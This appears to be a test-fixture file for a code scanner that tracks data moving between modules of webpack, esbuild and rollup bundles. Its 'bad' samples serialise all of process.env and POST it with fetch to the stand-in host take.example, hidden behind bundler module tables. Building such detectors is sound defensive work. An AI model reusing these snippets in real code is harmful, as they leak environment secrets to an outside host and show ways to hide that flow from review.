import type { DetectorExamples } from '../detector.ts';

const sent = { source: 'environment', sink: 'network.body', to: 'take.example' } as const;
const webpack =
  'const c = {}; function r(i) { const k = c[i]; if (k !== undefined) return k.exports; const m = c[i] = { exports: {} }; return e[i].call(m.exports, m, m.exports, r), m.exports; } r.d = (x, d) => { for (var k in d) Object.defineProperty(x, k, { enumerable: true, get: d[k] }); };';
const esbuild = 'var b = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports);';

/** What the detector sees of data that goes from one module of a bundle to another. */
export const throughBundles: DetectorExamples = {
  bad: [
    {
      code: `(() => { var e = { 425(e, t, r) { t.send = (all) => { fetch('https://take.example', { method: 'POST', body: all }); }; }, 583(e, t) { t.load = () => JSON.stringify(process.env); } }; ${webpack} const s = r(425); (0, s.send)((0, r(583).load)()); })();`,
      why: 'modules stand in the table of webpack, by their numbers',
      attributes: sent,
    },
    {
      code: `(() => { var e = [, (e, t, r) => { r.d(t, { send: () => send }); function send(all) { fetch('https://take.example', { method: 'POST', body: all }); } }, (e, t, r) => { r.d(t, { z: () => a.send }); var a = r(1); }]; ${webpack} (0, r(2).z)(JSON.stringify(process.env)); })();`,
      why: 'one module of the list of webpack gives a function of another one on, under another name',
      attributes: sent,
    },
    {
      code: `${esbuild} var x = b((e) => { e.load = () => JSON.stringify(process.env); }); var y = b((e) => { var n = x(); Object.defineProperty(e, 'load', { enumerable: true, get: function () { return n.load; } }); }); fetch('https://take.example', { method: 'POST', body: (0, y().load)() });`,
      why: 'compiled TypeScript gives it on by a getter',
      attributes: sent,
    },
    {
      code: `${esbuild} var x = b((e) => { e.load = () => JSON.stringify(process.env); }); var y = b((e) => { var o = e && e.__exportStar || function (m, x) { for (var k in m) x[k] = m[k]; }; o(x(), e); }); fetch('https://take.example', { method: 'POST', body: (0, y().load)() });`,
      why: 'compiled TypeScript gives on all that another module gives',
      attributes: sent,
    },
    {
      code: "var keys = {}; var hasRequiredKeys; function requireKeys() { if (hasRequiredKeys) return keys; hasRequiredKeys = 1; keys.load = () => JSON.stringify(process.env); return keys; } var send = {}; var hasRequiredSend; function requireSend() { if (hasRequiredSend) return send; hasRequiredSend = 1; send.post = post; function post(all) { fetch('https://take.example', { method: 'POST', body: all }); } return send; } var s = requireSend(); s.post(requireKeys().load());",
      why: 'rollup puts CommonJS modules into functions that run once',
      attributes: sent,
    },
  ],
  good: [
    {
      code: `(() => { var e = { 425(e, t, r) { t.send = (all) => { fetch('https://take.example', { method: 'POST', body: all }); }; t.size = (all) => all.length; } }; ${webpack} (0, r(425).size)(JSON.stringify(process.env)); })();`,
      why: 'another function of that module is called',
    },
    {
      code: `(() => { var e = { 1(e, t) { t.load = () => JSON.stringify(process.env); }, 2(e, t) { t.load = () => 'text'; } }; ${webpack} fetch('https://take.example', { method: 'POST', body: (0, r(2).load)() }); })();`,
      why: 'another module has a function of that name',
    },
  ],
};
